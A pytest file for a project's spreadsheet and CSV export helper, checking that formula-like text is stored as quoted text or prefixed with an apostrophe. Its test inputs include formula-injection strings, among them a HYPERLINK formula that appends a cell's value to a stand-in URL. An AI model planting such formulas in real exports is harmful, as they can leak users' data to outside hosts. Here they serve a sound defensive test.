"""core.xlsx: every text cell an export writes is text, whatever it starts with."""

from __future__ import annotations

import io
import re
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook

from parklink.core import xlsx

SOURCE = Path(xlsx.__file__).resolve().parent.parent
RISKY = ["=1+1", '=HYPERLINK("http://x"&A1,"click")', "+1", "-1", "@SUM(A1)", "\tx", "\rx"]


def read_back(write_only: bool, values: list[object]) -> list[tuple[object, str, bool]]:
    book = Workbook(write_only=write_only)
    sheet = book.create_sheet("s")
    xlsx.append(sheet, values)
    buffer = io.BytesIO()
    book.save(buffer)
    cells = next(load_workbook(io.BytesIO(buffer.getvalue()))["s"].iter_rows())
    return [(cell.value, cell.data_type, bool(cell.quotePrefix)) for cell in cells]


class TestAppend:
    @pytest.mark.parametrize("write_only", [True, False])
    def test_formula_like_text_is_written_as_quoted_text(self, write_only: bool) -> None:
        # Some openpyxl versions read a carriage return back as a line feed (XML's line-end
        # handling); the text is otherwise unchanged.
        expected = [(value.replace("\r", "\n"), "s", True) for value in RISKY]
        found = [
            (str(v).replace("\r", "\n"), kind, quoted)
            for v, kind, quoted in read_back(write_only, RISKY)
        ]
        assert found == expected

    def test_plain_text_numbers_and_blanks_keep_their_types(self) -> None:
        assert read_back(True, ["甲", 12, None]) == [("甲", "s", False), (12, "n", False)]


class TestCsvText:
    @pytest.mark.parametrize("value", RISKY)
    def test_formula_like_text_gets_an_apostrophe(self, value: str) -> None:
        assert xlsx.csv_text(value) == "'" + value

    def test_other_values_are_unchanged(self) -> None:
        assert [xlsx.csv_text(v) for v in ("甲=1", 5, None)] == ["甲=1", 5, None]


# Machine-readable outputs of the file commands: their columns are a contract read back by
# programs (`chains classify-file`, `positioning compute-file`), written verbatim, not a
# spreadsheet for people, so no apostrophe is put before text that starts like a formula.
DATA_FILES = {
    "chains/classify/files.py",
    "positioning/management/commands/positioning.py",
}


class TestEveryExportUsesTheHelper:
    def test_no_module_writes_spreadsheet_cells_or_csv_rows_around_it(self) -> None:
        """A new export must go through core.xlsx: no direct cells, CSV writers or workbooks."""
        direct = re.compile(r"WriteOnlyCell\(|csv\.writer\(|csv\.DictWriter\(|\.cell\(row=")
        offenders = []
        for path in SOURCE.rglob("*.py"):
            if path.name == "xlsx.py" and path.parent.name == "core":
                continue
            if str(path.relative_to(SOURCE)) in DATA_FILES:
                continue
            code = path.read_text(encoding="utf-8")
            helper = re.search(r"from parklink\.core(?: import [^\n]*\bxlsx\b|\.xlsx import)", code)
            if direct.search(code) or ("Workbook(" in code and not helper):
                offenders.append(str(path.relative_to(SOURCE)))
        assert offenders == []


class TestCsvBytes:
    def test_rows_are_utf8_with_a_bom_and_formula_like_text_is_guarded(self) -> None:
        data = xlsx.csv_bytes([["名称", "金额"], ["=1+1", 5]])
        assert data.startswith("\ufeff".encode())
        assert data.decode("utf-8-sig").splitlines() == ["名称,金额", "'=1+1,5"]
